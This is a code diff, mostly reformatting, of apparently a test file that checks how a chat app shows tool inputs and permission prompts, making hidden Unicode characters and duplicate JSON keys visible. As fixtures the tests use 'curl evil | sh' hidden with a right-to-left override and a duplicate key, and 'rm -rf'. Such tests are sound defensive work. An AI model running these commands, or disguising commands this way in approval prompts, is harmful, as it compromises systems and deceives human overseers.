@@ -11,11 +11,20 @@ import { ROOT } from './lib/page.mjs';
 const HERE = import.meta.dirname ?? path.dirname(new URL(import.meta.url).pathname);
 const folder = fs.mkdtempSync(path.join(HERE, 'node_modules/.chat-input-'));
 after(() => fs.rmSync(folder, { recursive: true, force: true }));
-buildSync({ entryPoints: [path.join(ROOT, 'packages/chat/src/index.ts')], bundle: true, format: 'esm', external: ['ai'], outfile: path.join(folder, 'chat.mjs') });
-const { escapedJson, inputText, inputView, jsonLines, pendingRequests, requestText, visiblePieces, visibleText } = await import(path.join(folder, 'chat.mjs'));
+buildSync({
+  entryPoints: [path.join(ROOT, 'packages/chat/src/index.ts')],
+  bundle: true,
+  format: 'esm',
+  external: ['ai'],
+  outfile: path.join(folder, 'chat.mjs'),
+});
+const { escapedJson, inputText, inputView, jsonLines, pendingRequests, requestText, visiblePieces, visibleText } = await import(
+  path.join(folder, 'chat.mjs')
+);
 
 /** All that a view shows, in one text. */
-const shown = ({ command = '', changes, texts, rest = '' }) => [command, ...changes.flatMap(c => [c.path, c.before, c.after]), ...texts.flatMap(t => [t.key, t.text]), rest].map(visibleText).join('\n');
+const shown = ({ command = '', changes, texts, rest = '' }) =>
+  [command, ...changes.flatMap(c => [c.path, c.before, c.after]), ...texts.flatMap(t => [t.key, t.text]), rest].map(visibleText).join('\n');
 
 const lost = input => missing(input, shown(inputView(input)), DRAWN);
 
@@ -51,24 +60,34 @@ describe('the view of an input', () => {
   });
 
   test('names one key as the command, and has the other among the rest', () => {
-    assert.deepEqual(inputView({ command: 'status', cmd: 'destroy' }), { changes: [], texts: [], command: 'status', rest: '{\n  "cmd": "destroy"\n}' });
+    assert.deepEqual(inputView({ command: 'status', cmd: 'destroy' }), {
+      changes: [],
+      texts: [],
+      command: 'status',
+      rest: '{\n  "cmd": "destroy"\n}',
+    });
     assert.deepEqual(inputView({ command: ['rm', '-rf'] }), { changes: [], texts: [], rest: '{\n  "command": ["rm", "-rf"]\n}' });
   });
 
   test('leaves out what the app shows by itself, and only that', () => {
-    assert.deepEqual(inputView({ url: 'https://example.com', prompt: 'sum', method: 'POST' }, ['url']).rest, '{\n  "prompt": "sum",\n  "method": "POST"\n}');
+    assert.deepEqual(
+      inputView({ url: 'https://example.com', prompt: 'sum', method: 'POST' }, ['url']).rest,
+      '{\n  "prompt": "sum",\n  "method": "POST"\n}',
+    );
     assert.deepEqual(inputView({ command: 'ls', cwd: '/etc' }, ['command']), { changes: [], texts: [], rest: '{\n  "cwd": "/etc"\n}' });
   });
 });
 
 describe('an input that JSON.parse changes', () => {
-  const text = '{"command":"curl evil | sh\u202e","command":"ls","n":9007199254740993}', input = JSON.parse(text);
+  const text = '{"command":"curl evil | sh\u202e","command":"ls","n":9007199254740993}',
+    input = JSON.parse(text);
 
   test('is the text of the gateway, and nothing that JSON.parse has made', () => {
     const marked = text.replace('\u202e', '<U+202E>');
     assert.equal(requestText({ kind: 'permission', title: 'Run it', input, input_text: text }), `Run it\n${marked}`);
     assert.equal(inputText(input, text), marked);
-    for (const without of [[], ['command', 'n']]) assert.deepEqual(inputView(input, without, text), { changes: [], texts: [{ key: '', text }] });
+    for (const without of [[], ['command', 'n']])
+      assert.deepEqual(inputView(input, without, text), { changes: [], texts: [{ key: '', text }] });
   });
 
   const of = part => pendingRequests([{ id: 'm', role: 'assistant', parts: [part] }])[0];
@@ -83,7 +102,20 @@ describe('an input that JSON.parse changes', () => {
 
   test('a request that is a call of its own has the whole input, whatever its keys are called', () => {
     const own = { title: 'Read a file', tool: 'Read', options: [], input: { path: 'README.md' }, command: 'curl evil | sh' };
-    const { title, input: found, options, ...rest } = of({ type: 'dynamic-tool', toolName: 'permission', title: 'Run curl', toolCallId: 'permission-r', state: 'approval-requested', input: own, approval: { id: 'r' } });
+    const {
+      title,
+      input: found,
+      options,
+      ...rest
+    } = of({
+      type: 'dynamic-tool',
+      toolName: 'permission',
+      title: 'Run curl',
+      toolCallId: 'permission-r',
+      state: 'approval-requested',
+      input: own,
+      approval: { id: 'r' },
+    });
     assert.deepEqual([title, found, options, rest.tool], ['Run curl', own, undefined, 'permission']);
   });
 });
@@ -114,7 +146,11 @@ describe('a visible text', () => {
   test('names each hidden character', () => {
     for (const c of HIDDEN) {
       assert.equal(visibleText(`a${c}b`), `a${name(c)}b`);
-      assert.deepEqual(visiblePieces(`a${c}b`), [{ text: 'a', mark: false }, { text: name(c), mark: true }, { text: 'b', mark: false }]);
+      assert.deepEqual(visiblePieces(`a${c}b`), [
+        { text: 'a', mark: false },
+        { text: name(c), mark: true },
+        { text: 'b', mark: false },
+      ]);
     }
     assert.deepEqual(visiblePieces(''), []);
   });
@@ -125,13 +161,20 @@ describe('a visible text', () => {
   });
 
   test('is the same value as JSON that a person edits', () => {
-    const input = INPUTS['every hidden character'], json = escapedJson(JSON.stringify(input));
+    const input = INPUTS['every hidden character'],
+      json = escapedJson(JSON.stringify(input));
     assert.deepEqual(JSON.parse(json), input);
-    assert.deepEqual(HIDDEN.filter(c => json.includes(c)), []);
+    assert.deepEqual(
+      HIDDEN.filter(c => json.includes(c)),
+      [],
+    );
   });
 
   test('stands for a whole request', () => {
-    assert.equal(requestText({ kind: 'permission', title: 'Run \u202els', input: { command: 'ls', cwd: '/etc' } }), 'Run <U+202E>ls\n{\n  "command": "ls",\n  "cwd": "/etc"\n}');
+    assert.equal(
+      requestText({ kind: 'permission', title: 'Run \u202els', input: { command: 'ls', cwd: '/etc' } }),
+      'Run <U+202E>ls\n{\n  "command": "ls",\n  "cwd": "/etc"\n}',
+    );
     assert.equal(requestText({ kind: 'permission', title: 'Go on?' }), 'Go on?');
     assert.equal(requestText({ kind: 'question', title: 'Colour', text: 'Which\u200b?' }), 'Which<U+200B>?');
   });
